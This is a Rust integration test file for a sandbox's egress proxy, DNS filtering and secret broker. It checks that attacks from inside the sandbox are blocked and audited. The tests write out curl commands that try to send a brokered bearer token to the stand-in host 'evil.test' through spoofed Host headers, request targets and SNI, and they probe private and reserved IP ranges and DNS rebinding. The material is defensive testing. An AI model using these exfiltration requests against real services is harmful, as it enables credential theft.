//! A hostile program inside a sandbox against the egress proxy, its DNS and the secret broker:
//! each test tries the attack and asserts that it fails, and that the refusal is logged.

use std::net::Ipv4Addr;

use superserve::local::LocalServer;
use superserve::{
    AuditOptions, CreateOptions, NetworkConfig, NetworkEvent, NetworkLogOptions, NetworkVerdict,
    SecretAuth, SecretCreateOptions,
};

use crate::common::{self, Upstream};
use crate::dual;
use crate::flavor::{Sandbox, Secret};

#[dual]
async fn run(sb: &Sandbox, cmd: &str) -> superserve::CommandResult {
    sb.commands()
        .run(cmd)
        .await
        .unwrap_or_else(|e| panic!("{cmd}: {e}"))
}

/// Waits (bounded) until the sandbox's network log holds an event satisfying `pred`.
#[dual]
async fn logged(sb: &Sandbox, pred: impl Fn(&NetworkEvent) -> bool) -> NetworkEvent {
    let mut events = Vec::new();
    for _ in 0..500 {
        events = sb
            .get_network_log(NetworkLogOptions::new().limit(1000))
            .await
            .unwrap()
            .events;
        if let Some(e) = events.iter().find(|e| pred(e)) {
            return e.clone();
        }
        crate::flavor::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("no matching network event in {events:#?}");
}

/// `curl` of `url` from inside the sandbox: the HTTP status it got (`000` when the
/// connection failed) and the body.
#[dual]
async fn curl(sb: &Sandbox, args: &str, url: &str) -> (String, String) {
    let r = run(
        sb,
        &format!("curl -sS -m 10 -w '\\n%{{http_code}}' {args} {url}"),
    )
    .await;
    let (body, status) = r.stdout.rsplit_once('\n').unwrap_or(("", &r.stdout));
    (status.to_owned(), body.to_owned())
}

/// A /30 test network inside `net` for an [`Upstream`] of this test (spread by pid).
fn upstream_in(net: [u8; 4], slots: u32) -> Upstream {
    Upstream::start_in(Ipv4Addr::from(net), slots)
}

/// Destinations in special-purpose ranges (RFC 6890: here the benchmarking range) and on a
/// network the host itself is attached to (a neighbour on its uplink, here a public-range
/// subnet) are refused and logged, even with no rule of the sandbox's own; the operator can
/// allow them explicitly.
#[dual]
pub async fn special_purpose_ranges_and_the_hosts_networks_are_blocked() {
    local_only!("the local backend (its egress, listeners and data directory)");
    // 198.18.0.0/15: network benchmarking (RFC 2544); 101.64.0.0/16: an ordinary public
    // range, here the host's end of a link to a neighbour
    let bench = upstream_in([198, 18, 0, 0], 32768);
    let neighbour = upstream_in([101, 64, 0, 0], 16384);
    let server = common::egress_server();
    let sb = Sandbox::create_with_config(&common::config(&server), CreateOptions::new("ranges"))
        .await
        .unwrap();
    for (ip, rule) in [
        (bench.ip, "benchmarking:198.18.0.0/15".to_owned()),
        (
            neighbour.ip,
            format!(
                "host-network:{}/30",
                Ipv4Addr::from(u32::from(neighbour.ip) - 2)
            ),
        ),
    ] {
        let (status, body) = curl(&sb, "", &format!("http://{ip}/reach")).await;
        assert_eq!(status, "000", "{ip} was reached: {body}");
        let ip_text = ip.to_string();
        let ev = logged(&sb, |e| e.dst_ip.as_deref() == Some(ip_text.as_str())).await;
        assert_eq!(ev.verdict, Some(NetworkVerdict::Blocked), "{ev:?}");
        assert_eq!(ev.match_rule.as_deref(), Some(rule.as_str()), "{ev:?}");
    }
    assert!(bench.requests().is_empty() && neighbour.requests().is_empty());
    // the other special-purpose ranges, by one address each (nothing needs to listen there)
    for (ip, rule) in [
        ("0.1.2.3", "this-network:0.0.0.0/8"),
        ("100.64.1.1", "shared-address-space:100.64.0.0/10"),
        ("192.0.0.9", "ietf-protocol-assignments:192.0.0.0/24"),
        ("192.0.2.1", "documentation:192.0.2.0/24"),
        ("198.51.100.7", "documentation:198.51.100.0/24"),
        ("203.0.113.5", "documentation:203.0.113.0/24"),
        ("240.0.0.1", "reserved:240.0.0.0/4"),
    ] {
        let (status, _) = curl(&sb, "", &format!("http://{ip}/")).await;
        assert_eq!(status, "000", "{ip}");
        let ev = logged(&sb, |e| e.dst_ip.as_deref() == Some(ip)).await;
        assert_eq!(ev.verdict, Some(NetworkVerdict::Blocked), "{ev:?}");
        assert_eq!(ev.match_rule.as_deref(), Some(rule), "{ev:?}");
    }
    // TCP to broadcast and multicast addresses is refused by the sandbox's own kernel
    // before it reaches the proxy (which would block it too)
    for ip in ["255.255.255.255", "224.0.0.251"] {
        let (status, _) = curl(&sb, "", &format!("http://{ip}/")).await;
        assert_eq!(status, "000", "{ip}");
    }
    sb.kill().await.unwrap();
    server.shutdown();

    // the operator opens them explicitly
    let open = LocalServer::builder()
        .allow_private_destination("198.18.0.0/15")
        .allow_private_destination(format!("{}/32", neighbour.ip))
        .start()
        .unwrap();
    let sb = Sandbox::create_with_config(&common::config(&open), CreateOptions::new("opened"))
        .await
        .unwrap();
    for up in [&bench, &neighbour] {
        let (status, body) = curl(&sb, "", &format!("http://{}/opened", up.ip)).await;
        assert_eq!(status, "200", "{body}");
        assert_eq!(up.requests().len(), 1);
    }
    sb.kill().await.unwrap();
}

/// An HTTP/HTTPS upstream for `host` whose certificate a test CA issued, a backend trusting
/// that CA, and a sandbox holding a stand-in for a bearer secret `value` of `host`.
#[dual]
async fn brokered_setup(host: &str, value: &str) -> (LocalServer, Upstream, Secret, Sandbox) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec![host.to_owned(), "evil.test".to_owned()])
        .unwrap()
        .signed_by(&leaf_key, &ca_cert, &ca_key)
        .unwrap();
    let server = LocalServer::builder()
        .allow_private_destination("10.88.0.0/16")
        .upstream_root_ca(ca_cert.pem())
        .start()
        .unwrap();
    assert!(server.egress_available());
    let up = Upstream::start();
    up.serve_tls(
        &format!("{}{}", leaf.pem(), ca_cert.pem()),
        &leaf_key.serialize_pem(),
    );
    server.set_dns_host(host, up.ip);
    let config = common::config(&server);
    let secret = Secret::create_with_config(
        &config,
        SecretCreateOptions::new("victim", value)
            .hosts([host])
            .auth(SecretAuth::bearer()),
    )
    .await
    .unwrap();
    let sb = Sandbox::create_with_config(
        &config,
        CreateOptions::new("thief").secret("TOKEN", "victim"),
    )
    .await
    .unwrap();
    (server, up, secret, sb)
}

/// Whether any request the upstream saw carried `value`.
fn leaked(up: &Upstream, value: &str) -> bool {
    up.requests()
        .iter()
        .any(|r| r.headers.iter().any(|(_, v)| v.contains(value)))
}

/// The stand-in sent to the secret's host's address but naming another host (`Host:` header,
/// an absolute request target) never gets the credential: refused with 403
/// `secret_host_mismatch`, audited, and nothing reaches the upstream.
#[dual]
pub async fn brokered_secret_needs_a_matching_host_header() {
    local_only!("the local backend (its egress, listeners and data directory)");
    let real = "real-credential-hosthdr-5c1";
    let (_server, up, secret, sb) = brokered_setup("api.hosthdr.test", real).await;
    let auth = "-H \"Authorization: Bearer $TOKEN\"";
    for (args, url) in [
        (
            format!("{auth} -H 'Host: evil.test'"),
            "http://api.hosthdr.test/steal".to_owned(),
        ),
        (
            format!("{auth} --request-target http://evil.test/steal"),
            "http://api.hosthdr.test/".to_owned(),
        ),
        (
            format!("{auth} -H 'Host: evil.test'"),
            format!("http://{}/steal", up.ip),
        ),
    ] {
        let (status, body) = curl(&sb, &args, &url).await;
        assert!(
            !leaked(&up, real),
            "{args} {url}: the credential reached the upstream"
        );
        assert_eq!(status, "403", "{args} {url}: {body}");
        assert!(body.contains("secret_host_mismatch"), "{body}");
    }
    assert!(!leaked(&up, real), "the credential reached the upstream");
    assert!(up.requests().is_empty(), "{:?}", up.requests());
    let audit = secret.get_audit(AuditOptions::new()).await.unwrap();
    assert_eq!(audit.len(), 3, "{audit:?}");
    assert!(audit
        .iter()
        .all(|e| e.status == 403 && e.error_code.as_deref() == Some("secret_host_mismatch")));
    // the honest request still gets the credential
    let (status, body) = curl(&sb, auth, "http://api.hosthdr.test/fine").await;
    assert_eq!(status, "200", "{body}");
    let seen = up.requests();
    assert_eq!(seen.len(), 1);
    let expected = format!("Bearer {real}");
    assert_eq!(seen[0].header("authorization"), Some(expected.as_str()));
    sb.kill().await.unwrap();
}

/// Over HTTPS the TLS server name must be one the sandbox resolved to the address it
/// connects to, and the `Host` inside must match it: a stand-in sent with `Host: evil.test`
/// inside a TLS session for the secret's host is refused, and a TLS session for another name
/// (here one the upstream's certificate also covers) is not intercepted at all, so only the
/// worthless stand-in reaches the upstream.
#[dual]
pub async fn brokered_https_needs_matching_sni_and_host() {
    local_only!("the local backend (its egress, listeners and data directory)");
    let real = "real-credential-sni-77aa";
    let (_server, up, _secret, sb) = brokered_setup("api.sni.test", real).await;
    let auth = "-H \"Authorization: Bearer $TOKEN\"";
    let (status, body) = curl(
        &sb,
        &format!("{auth} -H 'Host: evil.test'"),
        "https://api.sni.test/steal",
    )
    .await;
    assert!(!leaked(&up, real), "Host: evil.test got the credential");
    assert_eq!(status, "403", "{body}");
    assert!(body.contains("secret_host_mismatch"), "{body}");
    assert!(up.requests().is_empty(), "{:?}", up.requests());
    // TLS for evil.test to the secret host's address: relayed untouched (-k: the sandbox does
    // not trust the upstream's private CA), the upstream sees only the stand-in
    let (status, body) = curl(
        &sb,
        &format!("-k {auth} --resolve evil.test:443:{}", up.ip),
        "https://evil.test/steal",
    )
    .await;
    assert_eq!(status, "200", "{body}");
    let standin = run(&sb, "printf %s \"$TOKEN\"").await.stdout;
    let seen = up.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    let expected = format!("Bearer {standin}");
    assert_eq!(seen[0].header("authorization"), Some(expected.as_str()));
    assert!(!leaked(&up, real), "the credential reached the upstream");
    // and the honest HTTPS request works
    let (status, body) = curl(&sb, auth, "https://api.sni.test/fine").await;
    assert_eq!(status, "200", "{body}");
    let expected = format!("Bearer {real}");
    assert_eq!(
        up.requests()[1].header("authorization"),
        Some(expected.as_str())
    );
    sb.kill().await.unwrap();
}

/// DNS obeys the sandbox's rules: a name that no rule could allow is refused without being
/// resolved (the program sees `REFUSED`: "could not resolve"), a name whose every address is
/// in an always-blocked range is refused too, and each refused lookup is in the network log
/// (a blocked `connection` row with the name as host, port 53 and rule `dns:<rule>`).
#[dual]
pub async fn dns_refuses_names_no_rule_allows() {
    local_only!("the local backend (its egress, listeners and data directory)");
    let server = common::egress_server();
    let up = Upstream::start();
    server.set_dns_host("ok.dns.test", up.ip);
    server.set_dns_host("other.dns.test", up.ip);
    server.set_dns_host("inside.dns.test", Ipv4Addr::new(10, 1, 2, 3));
    let config = common::config(&server);
    let strict = Sandbox::create_with_config(
        &config,
        CreateOptions::new("strict").network(
            NetworkConfig::new()
                .allow_out(["ok.dns.test"])
                .deny_out(["0.0.0.0/0"]),
        ),
    )
    .await
    .unwrap();
    let ok = run(&strict, "getent ahostsv4 ok.dns.test").await;
    assert!(ok.stdout.contains(&up.ip.to_string()), "{ok:?}");
    let (status, _) = curl(&strict, "", "http://ok.dns.test/fine").await;
    assert_eq!(status, "200");
    // deny_out 0.0.0.0/0 and no rule naming it: no lookup, and curl cannot resolve it
    let other = run(&strict, "getent ahostsv4 other.dns.test; echo \"rc=$?\"").await;
    assert!(other.stdout.ends_with("rc=2\n"), "{other:?}");
    let r = run(&strict, "curl -sS -m 10 http://other.dns.test/x").await;
    assert_eq!(r.exit_code, 6, "curl: could not resolve host: {r:?}");
    // a name resolving only into a private network (DNS rebinding) is refused everywhere
    let open = Sandbox::create_with_config(&config, CreateOptions::new("open"))
        .await
        .unwrap();
    let inside = run(&open, "getent ahostsv4 inside.dns.test; echo \"rc=$?\"").await;
    assert!(inside.stdout.ends_with("rc=2\n"), "{inside:?}");
    let fine = run(&open, "getent ahostsv4 other.dns.test").await;
    assert!(fine.stdout.contains(&up.ip.to_string()), "{fine:?}");

    for (sb, name, rule) in [
        (&strict, "other.dns.test", "dns:0.0.0.0/0"),
        (&open, "inside.dns.test", "dns:private:10.0.0.0/8"),
    ] {
        let ev = logged(sb, |e| e.host.as_deref() == Some(name)).await;
        assert_eq!(ev.verdict, Some(NetworkVerdict::Blocked), "{ev:?}");
        assert_eq!(ev.dst_port, Some(53), "{ev:?}");
        assert_eq!(ev.match_rule.as_deref(), Some(rule), "{ev:?}");
    }
    assert_eq!(
        up.requests().len(),
        1,
        "only the allowed request got through"
    );
    strict.kill().await.unwrap();
    open.kill().await.unwrap();
}
